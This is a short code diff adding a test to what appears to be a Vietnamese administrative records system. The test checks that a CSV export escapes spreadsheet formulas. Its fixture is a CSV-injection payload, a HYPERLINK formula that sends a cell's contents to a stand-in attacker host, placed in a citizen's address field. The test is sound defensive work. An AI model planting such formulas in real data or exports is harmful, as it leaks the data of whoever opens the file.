@@ -227,3 +227,16 @@ def test_the_end_of_day_command_lists_the_gaps_and_records_the_sign_off(
     words = [*base[:3], "--lang", "vi", *base[3:-1]]  # the words, not the JSON
     again = subprocess.run(words, capture_output=True, text=True, check=False)
     assert "Đã ký xác nhận cuối ngày" in again.stdout and "chưa in phiếu tiếp nhận" in again.stdout
+
+
+def test_a_typed_formula_reaches_the_csv_as_text_a_spreadsheet_shows(store: Store) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"Xem")'
+    person = citizen(name=NAMES[1], id_number="001189004201", address=formula)
+    receive_dossier(store, intake(person), clerk=CLERK, now=vn(2026, 11, 2, 9, 0))
+    request = LogRequest(FIRST, LAST, LogFormat.CSV)
+    data = export_tracking_log(store, request, actor=SUPERVISOR, role="supervisor",
+                               now=EXPORTED_AT).data  # fmt: skip
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    address = rows[1][5]
+    assert address.startswith("'=HYPERLINK(")  # shown as typed, never run
+    assert formula in address
